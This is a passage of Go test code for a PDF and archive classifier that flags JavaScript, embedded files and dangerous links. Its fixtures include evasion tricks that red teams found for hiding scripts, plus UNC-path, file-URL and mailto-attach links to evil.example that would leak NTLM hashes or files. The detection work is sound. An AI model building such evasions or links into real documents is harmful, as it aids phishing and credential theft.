package filetype

import (
	"bytes"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// objStmPDF writes a PDF 1.5 whose catalog and action stand in an object
// stream: dict is the stream's dictionary without /Length, data its
// encoded content. Readers find the objects through the stream alone.
func objStmPDF(dict string, data []byte) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	fmt.Fprintf(&b, "5 0 obj\n<< %s /Length %d >>\nstream\r\n", dict, len(data))
	b.Write(data)
	b.WriteString("\r\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	return b.Bytes()
}

// objects is an object stream's content: the catalog (object 1) opening
// a JavaScript action (object 2).
func objects(js bool) []byte {
	o1 := "<< /Type /Catalog /Pages 3 0 R >>"
	o2 := "<< /Type /Pages /Kids [] /Count 0 >>"
	if js {
		o1 = "<< /Type /Catalog /OpenAction 2 0 R >>"
		o2 = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	}
	header := fmt.Sprintf("1 0 2 %d ", len(o1)+1)
	return []byte(header + o1 + " " + o2)
}

func deflateBytes(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// pngPredict encodes d in rows of cols bytes, each with PNG filter ft
// (1 Sub, 2 Up) and one byte per pixel.
func pngPredict(d []byte, cols int, ft byte) []byte {
	for len(d)%cols != 0 {
		d = append(d, ' ')
	}
	var out []byte
	prev := make([]byte, cols)
	for r := 0; r < len(d); r += cols {
		row := d[r : r+cols]
		out = append(out, ft)
		for i, c := range row {
			switch ft {
			case 1:
				var left byte
				if i > 0 {
					left = row[i-1]
				}
				out = append(out, c-left)
			case 2:
				out = append(out, c-prev[i])
			default:
				out = append(out, c)
			}
		}
		prev = row
	}
	return out
}

// TestPDFActiveContent: JavaScript is found wherever a reader finds it:
// anywhere in a large file, inside a compressed object stream (with or
// without a predictor), in a PDF inside a ZIP; an object stream mugai
// cannot read is a finding of its own, and a clean PDF 1.5 has none.
func TestPDFActiveContent(t *testing.T) {
	js := objects(true)
	padded := func(body string) []byte {
		pad := "%" + strings.Repeat("padding ", 1<<18) + "\n" // 2 MiB of comment
		p := string(pdfFile(body))
		i := strings.Index(p, "1 0 obj")
		j := strings.Index(p, "2 0 obj")
		return []byte(p[:i] + pad + p[i:j] + pad + p[j:]) // the catalog in the middle
	}
	const objStm = "/Type /ObjStm /N 2 /First 12"
	cases := []classifyCase{
		{name: "javascript between the first and last MiB", data: padded("/OpenAction << /S /JavaScript /JS (x) >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "large and clean", data: padded(""), filename: "a.pdf", class: ClassPDF, clean: true},
		{name: "object stream, flate", data: objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, clean", data: objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(objects(false))), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "object stream, hex-escaped type", data: objStmPDF("/Type /Obj#53tm /N 2 /First 12 /Filter /Fl", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, PNG Up predictor", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>", deflateBytes(pngPredict(js, 7, 2))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, PNG Sub predictor", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 16 >>", deflateBytes(pngPredict(js, 16, 1))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, hex then flate", data: objStmPDF(objStm+" /Filter [/ASCIIHexDecode /FlateDecode]", []byte(hex.EncodeToString(deflateBytes(js))+">")), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, type far from its data", data: objStmPDF(objStm+" /Pad ("+strings.Repeat("x", 5000)+") /Filter /FlateDecode", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, a fake stream keyword first", data: objStmPDF(objStm+" /Pad (\nstream\n) /Filter /FlateDecode", deflateBytes(js)), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: javascript"}},
		// Bypasses a red team found in the first version: an object stream
		// is found by what it holds, not by its dictionary.
		{name: "object stream without /Type", data: objStmPDF("/N 2 /First 12 /Filter /FlateDecode", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, flate then hex", data: objStmPDF("/N 2 /First 12 /Filter [/FlateDecode /ASCIIHexDecode]", deflateBytes([]byte(hex.EncodeToString(js)+">"))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, ascii85 then flate", data: objStmPDF("/N 2 /First 12 /Filter [/ASCII85Decode /FlateDecode]", a85(deflateBytes(js))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, PNG Sub predictor, 8 bytes a pixel", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 2 /Colors 8 >>", deflateBytes(pngPredictBpp(js, 16, 1, 8))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, its keyword line with a tab and junk", data: bytes.Replace(objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(js)), []byte("stream\r\n"), []byte("stream\t junk\r\n"), 1), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, its keyword at a window's end", data: windowEdgePDF(js), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, its header after 8 KiB of NULs", data: objStmPDF(objStm+" /First 8204 /Filter /FlateDecode", deflateBytes(append(make([]byte, 8<<10), js...))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream bomb", data: objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(make([]byte, 80<<20))), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: too many or too large streams"}},
		{name: "object stream uncompressed, clean", data: objStmPDF(objStm, objects(false)), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "object stream uncompressed", data: objStmPDF(objStm, js), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream behind LZW", data: objStmPDF(objStm+" /Filter [/LZWDecode]", []byte("\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01")), filename: "a.pdf",
			class: ClassArchive, findings: []string{pdfOpaque}},
		{name: "file attachment without /Type", data: pdfFile("/Annots [<< /Subtype /FileAttachment /FS << /F (invoice.exe) /EF << /F 7 0 R >> >> >>]"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: embedded file"}},
		{name: "file spec /EF alone", data: pdfFile("/Names << /X << /F (a.exe) /EF<</F 7 0 R>> >> >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: embedded file"}},
		{name: "image data that reads /JS and /XFA", data: imagePDF([]byte("\x93/JS{\x01\x02/XFA\xff/EF)\x00/JS 12 x")), filename: "scan.pdf",
			class: ClassPDF, clean: true},
		// Bypasses a second red team found: what readers accept, read as
		// they read it, or blocked.
		{name: "object stream, a comment before its header", data: objStmPDF("/N 2 /First 15 /Filter /FlateDecode", deflateBytes(append([]byte("%c\n"), js...))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, signed numbers", data: objStmPDF("/N 2 /First 12 /Filter /FlateDecode", deflateBytes(bytes.Replace(js, []byte("1 0 2"), []byte("+1 +0 +2"), 1))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, 17 bytes a pixel", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 2 /Colors 17 >>", deflateBytes(pngPredictBpp(js, 34, 1, 17))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, PNG filter types above 4 (none)", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9 >>", deflateBytes(pngPredict(js, 9, 5))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, TIFF predictor", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 9 >>", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: streams not inspected (TIFF or unknown predictor)"}},
		{name: "object stream, four hex layers", data: objStmPDF(objStm+" /Filter [/AHx /AHx /AHx /Fl]", []byte(hexLayers(deflateBytes(js), 3))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "object stream, bad hex digits read as 0", data: objStmPDF(objStm+" /Filter [/AHx /Fl]", []byte(strings.Replace(hex.EncodeToString(deflateBytes(js)), "00", "zz", 1)+">")), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: javascript"}},
		{name: "a stream keyword far from its line end", data: bytes.Replace(objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(js)), []byte("stream\r\n"), []byte("stream"+strings.Repeat(" ", 1100)+"\r\n"), 1), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: a stream mugai cannot read to the end"}},
		{name: "JavaScript at the very end", data: append(pdfFile(""), "9 0 obj << /S /JavaScript /JS (x)"...), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "a short JavaScript string at the very end", data: append(pdfFile(""), "9 0 obj << /JS (x)"...), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "rendition action", data: pdfFile("/OpenAction << /S /Rendition /JS (\f\f\fapp.alert(1)) >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: rendition action", "pdf: javascript"}},
		{name: "submit form action to a UNC path", data: pdfFile("/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (\\\\\\\\evil.example\\\\share) >> >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: submit form action"}},
		{name: "3D annotation script", data: pdfFile("/Pages 2 0 R >> endobj 9 0 obj << /Type /3D /Subtype /U3D /OnInstantiate 10 0 R >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: 3D javascript"}},
		{name: "JavaScript by a reference with a comment and a sign", data: pdfFile("/AA << /O << /S /Rendition /JS +8 %x\n0 R >> >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "a filter referred to", data: objStmPDF(objStm+" /Filter 9 0 R", objects(false)), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "run-length filter in an array elsewhere", data: append(objStmPDF(objStm+" /Filter 9 0 R", objects(false)), "9 0 obj [/RL] endobj\n"...), filename: "a.pdf",
			class: ClassPDF, findings: []string{pdfOpaque}},
		// Round three: an object stream its dictionary names must read as
		// one; names end at NUL; a number ends at a delimiter.
		{name: "object stream that reads as none (CCITT, say)", data: objStmPDF(objStm+" /Filter /CCITTFaxDecode", []byte("\x00\x01\x02 binary")), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: a stream mugai cannot read to the end"}},
		{name: "object stream, its header run into its first object", data: objStmPDF("/N 1 /First 4 /Filter /FlateDecode", deflateBytes([]byte("6 0<< /S /JavaScript /JS (app.alert(1)) >>"))), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "a name ending in an escaped NUL", data: pdfFile("/OpenAction << /S /JavaScript#00 /JS 9 0 R >> /Names << /EmbeddedFiles#00 8 0 R >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript", "pdf: embedded file"}},
		{name: "predictor given by reference", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 30 0 R /Columns 9 >>", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: streams not inspected (TIFF or unknown predictor)"}},
		{name: "object stream data after a tab", data: bytes.Replace(objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(js)), []byte("stream\r\n"), []byte("stream\t"), 1), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: javascript"}}, // and the line-end reading, which is no object stream
		{name: "zlib header with a 64 KiB window", data: objStmPDF(objStm+" /Filter /FlateDecode", append([]byte{0x88, 0x1c}, deflateBytes(js)[2:]...)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "page text with streams in it", data: pdfFile("/Note (the " + strings.Repeat("streamable streams ", 200) + ")"), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "a GiB of white space under a hex layer", data: objStmPDF("/Filter [/Fl /AHx /Fl]", deflateBytes(deflateBytes(append([]byte(strings.Repeat("31", 20)), bytes.Repeat([]byte(" "), 80<<20)...)))), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: too many or too large streams"}},
		// Round four.
		{name: "object stream without /Type that reads as none", data: objStmPDF("/N 2 /First 12 /Filter /CCITTFaxDecode", []byte("\x00\x01\x02 binary")), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: a stream mugai cannot read to the end"}},
		{name: "a decoy stream keyword before an object stream that reads as none", data: objStmPDF(objStm+" /Foo (stream\n1 0) /Filter /CCITTFaxDecode", []byte("\x00\x01\x02 binary")), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: a stream mugai cannot read to the end"}},
		{name: "TIFF predictor with leading zeros", data: objStmPDF(objStm+" /Filter /FlateDecode /DecodeParms << /Predictor 000000002 /Columns 9 >>", deflateBytes(js)), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: streams not inspected (TIFF or unknown predictor)"}},
		{name: "a link to a page about JavaScript", data: pdfFile("/Annots [<< /Subtype /Link /A << /S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript/Guide) >> >>]"), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "binary data run into endstream", data: bytes.Replace(objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(objects(false))), []byte("\r\nendstream"), []byte("/\xe57kendstream\nendobj\n6 0 obj\n<< /Length 1 >>\nstream\nx\nendstream"), 1), filename: "a.pdf",
			class: ClassPDF, clean: true},
		{name: "hex with a run of white space past the probe", data: objStmPDF("/Filter /AHx", append(append([]byte(strings.Repeat("31", 20)), bytes.Repeat([]byte(" "), 100<<10)...), '>')), filename: "a.pdf",
			class: ClassArchive, findings: []string{"pdf: not fully inspected: a stream mugai cannot read to the end"}},
		{name: "object stream in a PDF in a ZIP", data: zipFile(t, deflate("docs/a.pdf", objStmPDF(objStm+" /Filter /FlateDecode", deflateBytes(js)))), filename: "docs.zip",
			class: ClassArchive, findings: []string{"pdf: javascript docs/a.pdf"}},
		{name: "ZIP appended to a PDF", data: append(pdfFile(""), zipFile(t, deflate("b.exe", peFile()))...), filename: "a.pdf",
			class: ClassExecutable, exe: true, findings: []string{"zip: archive appended to application/pdf", "archive: executable entry b.exe"}},
		{name: "HTML in a ZIP", data: zipFile(t, deflate("a.html", []byte("<html><script>x()</script></html>"))), filename: "a.zip",
			class: ClassArchive, findings: []string{"archive: active content entry a.html"}},
		{name: "SVG in a ZIP, named as text", data: zipFile(t, deflate("a.txt", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>`))), filename: "a.zip",
			class: ClassArchive, findings: []string{"archive: active content entry a.txt"}},
		{name: "OneNote in a ZIP", data: zipFile(t, deflate("a.one", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"))), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry a.one"}},
	}
	runClassify(t, cases)
}

// a85 encodes b as an ASCII85 stream's data.
func a85(b []byte) []byte {
	out := make([]byte, ascii85.MaxEncodedLen(len(b)))
	return append(out[:ascii85.Encode(out, b)], "~>"...)
}

// pngPredictBpp is pngPredict with bpp bytes a pixel.
func pngPredictBpp(d []byte, cols int, ft byte, bpp int) []byte {
	for len(d)%cols != 0 {
		d = append(d, ' ')
	}
	var out []byte
	for r := 0; r < len(d); r += cols {
		row := d[r : r+cols]
		out = append(out, ft)
		for i, c := range row {
			var left byte
			if ft == 1 && i >= bpp {
				left = row[i-bpp]
			}
			out = append(out, c-left)
		}
	}
	return out
}

// windowEdgePDF puts an object stream's "stream" keyword just before the
// end of the scanner's first window, with a long run of spaces after it.
func windowEdgePDF(js []byte) []byte {
	p := objStmPDF("/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode", deflateBytes(js))
	i := bytes.Index(p, []byte("stream\r\n"))
	pad := "%" + strings.Repeat("x", scanWindow-200-i-2) + "\n" // "stream" 200 bytes before the end
	p = append(append(append([]byte{}, p[:i]...), pad...), p[i:]...)
	return bytes.Replace(p, []byte("stream\r\n"), []byte("stream"+strings.Repeat(" ", 300)+"\r\n"), 1)
}

// imagePDF is a PDF whose one image holds data.
func imagePDF(data []byte) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
	fmt.Fprintf(&b, "3 0 obj\n<< /Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode /Length %d >>\nstream\n", len(data))
	b.Write(data)
	b.WriteString("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	return b.Bytes()
}

// hexLayers hex-encodes b n times, each with its end marker.
func hexLayers(b []byte, n int) string {
	for range n {
		b = append([]byte(hex.EncodeToString(b)), '>')
	}
	return string(b)
}

func TestUnpredictPNG(t *testing.T) {
	d := []byte("1 0 2 40 << /Type /Catalog >> << /S /JavaScript >>")
	for _, ft := range []byte{0, 1, 2} {
		enc := pngPredict(append([]byte{}, d...), 9, ft)
		got := unpredictPNG(enc, 10, 1)
		if !bytes.HasPrefix(got, d) {
			t.Errorf("filter %d: %q, want %q", ft, got, d)
		}
	}
}

// TestPDFLinks: the links a kept PDF carries are counted, each target
// once however it is written (a literal string with escapes, a hex
// string, a name with #xx escapes, inside an object stream); a link to
// anything but a web page or a mail address (a file, a UNC path, which
// hands Windows' NTLM hash to whoever runs the share, another program)
// blocks the file like a launch or remote go-to action does, and so does
// a target mugai cannot read.
func TestPDFLinks(t *testing.T) {
	link := func(uri string) string {
		return "<< /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI " + uri + " >> >>"
	}
	annots := func(l ...string) []byte {
		return pdfFile("/Annots [" + strings.Join(l, " ") + "]")
	}
	const objStm = "/Type /ObjStm /N 2 /First 12 /Filter /FlateDecode"
	objStmWith := func(o2 string) []byte {
		o1 := "<< /Type /Catalog /OpenAction 2 0 R >>"
		return objStmPDF(objStm, deflateBytes([]byte(fmt.Sprintf("1 0 2 %d ", len(o1)+1)+o1+" "+o2)))
	}
	inObjStm := func(uri string) []byte { return objStmWith("<< /S /URI /URI " + uri + " >>") }
	// predicted is an object stream whose dictionary gives a PNG
	// predictor, with the filter type ft on every row (5: above 4, which
	// readers take for none).
	predicted := func(o2 string, ft byte) []byte {
		o1 := "<< /Type /Catalog /OpenAction 2 0 R >>"
		data := []byte(fmt.Sprintf("1 0 2 %d ", len(o1)+1) + o1 + " " + o2)
		return objStmPDF(objStm+" /DecodeParms << /Predictor 12 /Columns 9 >>", deflateBytes(pngPredict(data, 9, ft)))
	}
	for _, tc := range []struct {
		name     string
		data     []byte
		links    int
		findings []string // each must be among the findings; none when empty
	}{
		{name: "no links", data: pdfFile("")},
		{name: "one link", data: annots(link("(https://www.city.example.lg.jp/form.html)")), links: 1},
		{name: "the same link three ways", data: annots(
			link("(http://x.example/a)"),
			link(`(\150ttp://x\.example/\
a)`),
			link("<68747470 3a2f2f782e6578616d706c652f61>")), links: 1},
		{name: "two links and a mail address", data: annots(link("(https://a.example/)"), link("(https://b.example/)"), link("(mailto:kikaku@city.example.lg.jp)")), links: 3},
		{name: "name with escapes", data: annots("<< /A << /S /#55RI /#55R#49 (https://a.example/) >> >>"), links: 1},
		{name: "nested parentheses", data: annots(link("(https://a.example/x\\(1\\)(2))")), links: 1},
		{name: "UTF-16 with its byte order mark", data: annots(link("<FEFF0068007400740070003A002F002F0061002E006500780061006D0070006C0065002F>")), links: 1},
		{name: "in an object stream", data: inObjStm("(https://a.example/)"), links: 1},
		{name: "a target longer than mugai reads", data: annots(link("(https://a.example/?q=" + strings.Repeat("x", 3*pdfLinkMax) + ")")), links: 1},
		{name: "a target across a window's end", data: acrossWindow(link("(https://a.example/?q=" + strings.Repeat("x", 1500) + ")")), links: 1},
		{name: "a UNC target across a window's end", data: acrossWindow(link(`(\\\\evil.example\\` + strings.Repeat("x", 1500) + ")")), links: 1, findings: []string{pdfLinkShare}},
		// Web-like: a phone number (municipal flyers, print-to-PDF
		// output) and a mail address, whatever it reads.
		{name: "phone numbers", data: annots(link("(tel:+81-3-1234-5678)"), link("(TEL:0312345678)")), links: 2},
		{name: "mail address with attach in it", data: annots(link("(mailto:attach-desk@city.example.lg.jp)")), links: 1},
		{name: "mail subject about attachments", data: annots(link("(mailto:kikaku@city.example.lg.jp?subject=attachment%20list&body=attach=later)")), links: 1},
		{name: "the catalog's base URI is no link", data: pdfFile("/URI << /Base (https://a.example/) >>")},
		{name: "a path in a link that reads /URI(", data: annots(link("(https://a.example/URI(x\\))")), links: 1},
		{name: "a path in a link with parentheses before /URI(", data: annots(link("(https://a.example/a(1)/URI(x\\))")), links: 1},
		{name: "a path in a link with an escaped parenthesis before /URI(", data: annots(link("(https://a.example/a\\)/URI(x\\))")), links: 1},
		{name: "a path in a link that reads /JavaScript", data: annots(link("(https://developer.example/Web/JavaScript/Guide)")), links: 1},
		// Not to the web: treated as a launch or remote go-to action.
		{name: "UNC path", data: annots(link(`(\\\\evil.example\\share\\a.pdf)`)), links: 1, findings: []string{pdfLinkShare}},
		{name: "file URL", data: annots(link("(file://evil.example/share/a.pdf)")), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after blanks and a control byte", data: annots(link("( \x01FILE://evil.example/x)")), links: 1, findings: []string{pdfLinkFile}},
		{name: "javascript URL", data: annots(link("(javascript:app.alert\\(1\\))")), links: 1, findings: []string{"pdf: link to a program (javascript:)"}},
		{name: "scheme split by a tab", data: annots(link("(fi\tle://evil.example/x)")), links: 1, findings: []string{pdfLinkFile}},
		{name: "relative target", data: annots(link("(share/a.pdf)")), links: 1, findings: []string{pdfLinkRelative}},
		{name: "mailto that attaches a file", data: annots(link("(mailto:a@example.jp?attach=C:\\\\secret.xlsx)")), links: 1, findings: []string{pdfLinkAttach}},
		{name: "relative target that looks like a host", data: annots(link("(www.city.example.lg.jp/a.pdf)")), links: 1, findings: []string{pdfLinkRelative}},
		{name: "absolute path", data: annots(link("(/share/a.pdf)")), links: 1, findings: []string{pdfLinkRelative}},
		{name: "network path without a scheme", data: annots(link("(//evil.example/share/a.pdf)")), links: 1, findings: []string{pdfLinkShare}},
		{name: "drive path", data: annots(link("(C:\\\\Users\\\\a.pdf)")), links: 1, findings: []string{pdfLinkDrive}},
		{name: "another program's scheme", data: annots(link("(ms-word:ofe|u|https://evil.example/a.docx)")), links: 1, findings: []string{"pdf: link to a program (ms-word:)"}},
		{name: "mailto with an Attachment parameter", data: annots(link("(mailto:a@example.jp?subject=x&Attachment=C:\\\\secret.xlsx)")), links: 1, findings: []string{pdfLinkAttach}},
		{name: "mailto with a percent-encoded attach parameter", data: annots(link("(mailto:a@example.jp?%61ttach=C:\\\\secret.xlsx)")), links: 1, findings: []string{pdfLinkAttach}},
		{name: "a host and port read as a scheme", data: annots(link("(www.city.example.lg.jp:8080/a.pdf)")), links: 1, findings: []string{pdfLinkSchemes}},
		{name: "schemes named up to a bound", data: annots(link("(a1:x)"), link("(a2:x)"), link("(a3:x)"), link("(a4:x)"), link("(a5:x)"), link("(a6:x)"), link("(x"+strings.Repeat("y", 40)+":x)")),
			links: 7, findings: []string{"pdf: link to a program (a1:)", "pdf: link to a program (a4:)", pdfLinkSchemes}},
		{name: "UNC path in an object stream", data: inObjStm(`(\\\\evil.example\\share)`), links: 1, findings: []string{pdfLinkShare}},
		{name: "UNC path in a hex string with escaped names", data: annots("<< /A << /S /URI /U#52I <5c5c6576696c2e6578616d706c655c73686172655c78> >> >>"), links: 1, findings: []string{pdfLinkShare}},
		// A URL before the /URI key, in another value, hides nothing:
		// the /URI name stands outside any string.
		{name: "UNC path after a string holding a URL", data: annots("<< /A << /S /URI /X (http://a)/URI (\\\\\\\\evil.example\\\\share\\\\a.pdf) >> >>"), links: 1, findings: []string{pdfLinkShare}},
		{name: "file URL after a string holding a URL", data: annots("<< /A << /S /URI /X (http://a)/URI (file://evil.example/x) >> >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after an array holding a URL", data: annots("<< /A << /S /URI /K [(http://a)]/URI (file://evil.example/x) >> >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after a name holding ://", data: annots("<< /A << /S /URI /X /http://a/URI (file://evil.example/x) >> >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after a dictionary holding a URL", data: annots("<< /A << /S /URI /K <</X(http://a)>>/URI (file://evil.example/x) >> >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after a string ending in an escaped backslash", data: annots("<< /A << /S /URI /X (http://a\\\\)/URI (file://evil.example/x) >> >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "file URL after a string holding a URL, in an object stream", data: objStmWith("<< /S /URI /X (http://a)/URI (file://evil.example/x) >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "UNC path after an array holding a URL, in an object stream", data: objStmWith("<< /S /URI /K [(http://a)]/URI (\\\\\\\\evil.example\\\\share) >>"), links: 1, findings: []string{pdfLinkShare}},
		{name: "file URL after a name holding ://, in an object stream", data: objStmWith("<< /S /URI /X /http://a/URI (file://evil.example/x) >>"), links: 1, findings: []string{pdfLinkFile}},
		{name: "a script names tree after a string holding a URL", data: pdfFile("/Names << /X (http://a)/JavaScript 9 0 R >>"), findings: []string{"pdf: javascript"}},
		{name: "target by reference", data: annots(link("9 0 R")), links: 1, findings: []string{pdfLinkUnread}},
		// A name is a relative target to pdf.js ("/" and the name), an
		// array one mugai does not read; the name after /S /URI is a key.
		{name: "target as a name", data: annots(link("/a.pdf")), links: 1, findings: []string{pdfLinkRelative}},
		{name: "target as an escaped name", data: annots(link("/#2F#2Fevil.example#2Fshare")), links: 1, findings: []string{pdfLinkShare}},
		{name: "target as a name in an object stream", data: inObjStm("/a.pdf"), links: 1, findings: []string{pdfLinkRelative}},
		{name: "target as an array", data: annots(link("[(https://a.example/)]")), links: 1, findings: []string{pdfLinkUnread}},
		{name: "a name target after a key whose value is /S", data: annots("<< /A << /S /URI /Foo /S /URI /#5C#5Cevil.example#5Cshare >> >>"), links: 1, findings: []string{pdfLinkShare}},
		{name: "a name target after a key in a comment", data: annots("<< /A << /S /URI /Foo % /Bar\n/S /URI /#5C#5Cevil.example#5Cshare >> >>"), links: 1, findings: []string{pdfLinkShare}},
		{name: "action type before its keys", data: annots("<< /A << /S /URI /IsMap false /Next 9 0 R /Type /Action /URI (https://a.example/) >> >>", "<</A<</S/URI/URI(https://b.example/)>>>>"), links: 2},
		{name: "hex string with what is no hex digit", data: annots(link("<68747470Z3a2f2f782e6578616d706c652f61>")), links: 1, findings: []string{pdfLinkUnread}},
		// Other actions that open a file elsewhere block the file already.
		{name: "remote go-to a UNC path", data: pdfFile(`/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>`), findings: []string{"pdf: remote go-to action"}},
		{name: "remote go-to, escaped", data: pdfFile(`/OpenAction << /S /GoTo#52 /F << /FS /URL /F (\\\\evil.example\\x.pdf) >> >>`), findings: []string{"pdf: remote go-to action"}},
		{name: "remote go-to in an object stream", data: objStmWith(`<< /S /GoToR /F (\\\\e\\x.pdf) /D [0 /Fit] >>`), findings: []string{"pdf: remote go-to action"}},
		// A thread action with a file specification opens an article
		// in another file, as a remote go-to does; a movie or a sound
		// may play a file given by its path.
		{name: "thread in a UNC path", data: pdfFile(`/OpenAction << /S /Thread /F (\\\\evil.example\\share\\x.pdf) /D 0 >>`), findings: []string{pdfThread}},
		{name: "thread, escaped", data: pdfFile(`/OpenAction << /S /Thr#65ad /F << /FS /URL /F (file://evil.example/x.pdf) >> /D 0 >>`), findings: []string{pdfThread}},
		{name: "thread after a type written far from it", data: pdfFile(`/OpenAction << /Type /Action /S % comment
/Thread /F (\\\\evil.example\\x.pdf) >>`), findings: []string{pdfThread}},
		{name: "thread in an object stream", data: objStmWith(`<< /S /Thread /F (\\\\e\\x.pdf) /D 0 >>`), findings: []string{pdfThread}},
		{name: "an article thread is no action", data: pdfFile("/Threads [4 0 R] >>\nendobj\n4 0 obj\n<< /Type /Thread /F 5 0 R /I << /Title (a) >>")},
		// A comment between could hide a /Type the reader never sees: such an article thread is blocked.
